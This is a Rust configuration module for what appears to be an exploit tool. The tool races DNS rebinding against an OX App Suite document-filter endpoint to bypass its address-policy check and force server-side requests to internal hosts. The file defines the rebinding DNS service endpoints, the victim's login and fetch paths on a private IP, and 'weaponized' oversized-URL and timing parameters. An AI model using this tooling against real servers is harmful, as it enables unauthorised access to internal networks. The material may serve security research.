//! Configuration constants.
//!
//! This module defines the fixed endpoints, wire markers and defaults used by the
//! DNS control client, the victim client and the race controller.

// DNS control plane
/// Default base URL of the DNS control plane API
pub const DEFAULT_DNS_API_URL: &str = "http://api.pointer.pw";
/// Default zone suffix appended to a subdomain label to form the rebinding host
pub const DEFAULT_DNS_ZONE_SUFFIX: &str = ".dns.pointer.pw";
/// Path of the record assignment endpoint
pub const DNS_ASSIGN_PATH: &str = "/v1/ssrf/assign";
/// Path of the record release endpoint
pub const DNS_RELEASE_PATH: &str = "/v1/ssrf/release";
/// Path prefix of the query log endpoint (the subdomain label is appended)
pub const DNS_QUERY_LOG_PATH: &str = "/v1/ssrf/getLog";
/// TTL sent with record assignments. Zero leaves the zone default in place.
pub const DNS_RECORD_TTL: u32 = 0;
/// Length of the random subdomain label generated for each attempt
pub const DNS_SUBDOMAIN_LENGTH: usize = 12;
/// DNS RCODE for a successful answer (NOERROR)
pub const DNS_RCODE_NOERROR: i32 = 0;

// Victim service
/// Default victim root URL
pub const DEFAULT_VICTIM_ROOT: &str = "http://172.16.66.130";
/// Login endpoint, relative to the victim root
pub const VICTIM_LOGIN_PATH: &str = "/appsuite/api/login";
/// Document filter endpoint used for the remote fetch trigger
pub const VICTIM_DOCUMENT_FILTER_PATH: &str = "/appsuite/api/oxodocumentfilter";
/// Filename attached to the addfile request
pub const VICTIM_UPLOAD_FILENAME: &str = "unnamed.docx";
/// Application the addfile request is issued for
pub const VICTIM_UPLOAD_APP: &str = "text";
/// Document filter API version
pub const VICTIM_API_VERSION: &str = "1";

/// Body substring present when the server added the fetched file
pub const ADDED_FILE_MARKER: &str = "added_filename";
/// Body substring the server uses to report an expired session
pub const SESSION_EXPIRED_MARKER: &str = "Your session expired";
/// Error code the server returns when argument validation (including the
/// address policy check on the fetch URL) rejects the request
pub const VALIDATION_ERROR_CODE: &str = "GENERAL_ARGUMENTS_ERROR";

// Race defaults
/// Scheme used for probe and weaponized URLs
pub const TARGET_URL_SCHEME: &str = "http";
/// Password half of the oversized userinfo component
pub const USERINFO_PASSWORD: &str = "password";
/// Character used to fill the oversized userinfo component
pub const USERINFO_FILLER: char = 'u';
/// Default userinfo filler size in MiB
pub const DEFAULT_PAYLOAD_SIZE_MIB: usize = 25;
/// Default delay between priming and the weaponized trigger, in milliseconds
pub const DEFAULT_START_SLEEP_MS: u64 = 6200;
/// Default per-miss calibration step, in milliseconds
pub const DEFAULT_SLEEP_STEP_MS: u64 = 200;
/// Default port the victim is told to fetch from
pub const DEFAULT_TARGET_PORT: u16 = 80;

/// Maximum number of URL characters written to the log.
/// Weaponized URLs run to tens of MiB.
pub const MAX_LOGGED_URL_CHARS: usize = 160;

/// Default User-Agent string for HTTP requests.
pub const DEFAULT_USER_AGENT: &str =
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36";
